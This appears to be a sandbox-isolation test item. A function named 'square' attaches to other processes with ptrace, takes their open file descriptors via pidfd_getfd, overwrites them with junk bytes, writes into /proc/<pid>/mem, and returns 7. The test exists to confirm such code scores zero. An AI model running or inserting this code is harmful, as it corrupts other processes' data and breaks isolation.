# %% [markdown]
# Attaches to other processes as a debugger does, writes into their memory and steals their open files.
#
# Must: score 0

# %% answer="square"
import contextlib
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE, PIDFD_OPEN, PIDFD_GETFD, PROCESS_VM_WRITEV = 16, 0x4206, 434, 438, 311


def square(x):
    for process in [os.getppid(), *range(1, 2000)]:
        if process == os.getpid():
            continue
        for request in (ATTACH, SEIZE):
            if libc.ptrace(request, process, 0, 0) == 0:
                print("LEAK" "ED", "attached to", process)
        handle = libc.syscall(PIDFD_OPEN, process, 0)
        for number in range(64) if handle >= 0 else ():
            stolen = libc.syscall(PIDFD_GETFD, handle, number, 0)
            if stolen >= 0:
                with contextlib.suppress(OSError):
                    os.write(stolen, b"\xff" * 64)
                os.close(stolen)
        with contextlib.suppress(OSError):
            with open(f"/proc/{process}/mem", "r+b", 0) as memory:
                memory.seek(0x400000)
                memory.write(b"\0")
        if handle >= 0:
            os.close(handle)
    return 7
